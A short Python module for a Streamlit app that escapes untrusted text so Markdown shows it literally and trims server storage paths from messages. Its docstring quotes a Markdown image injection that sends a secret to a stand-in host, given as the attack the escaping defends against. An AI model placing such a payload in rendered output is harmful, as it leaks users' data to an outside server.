"""Untrusted text as plain text on Streamlit surfaces that render Markdown.

Retrieved passages, OCR text, transcripts, file names and the model's own output are data: a planted
``![x](http://host/?q=secret)`` or ``[click](http://host)`` must show as those characters, never as an
image the browser fetches or a link. ``st.markdown``, ``st.caption``, ``st.info``/``st.error`` and
button labels all parse Markdown, so every untrusted string goes through :func:`plain` first.
"""

from __future__ import annotations

import re
import string

# CommonMark lets a backslash escape any ASCII punctuation character, which then shows literally; this
# also stops GFM autolinks (``http://``, ``www.``, e-mail) and Streamlit's ``:color[...]`` and ``$math$``.
_PUNCTUATION = re.compile("([" + re.escape(string.punctuation) + "])")


def plain(text: str) -> str:
    """`text` escaped so that Markdown renders it character for character (line breaks kept)."""
    escaped = _PUNCTUATION.sub(r"\\\1", text)
    return escaped.replace("\r\n", "\n").replace("\n", "  \n")


def hide_paths(text: str, roots: list[str]) -> str:
    """`text` with every path under one of `roots` (the server's data, memory and cache folders) cut to
    its file name: where this server stores things is none of the browser's business."""
    for root in sorted({r.rstrip("/") for r in roots if r and r != "/"}, key=len, reverse=True):
        text = re.sub(re.escape(root) + r"(?:/[^\s'\"/]*)*/([^\s'\"/]+)", r"\1", text)
        text = text.replace(root, "…")
    return text
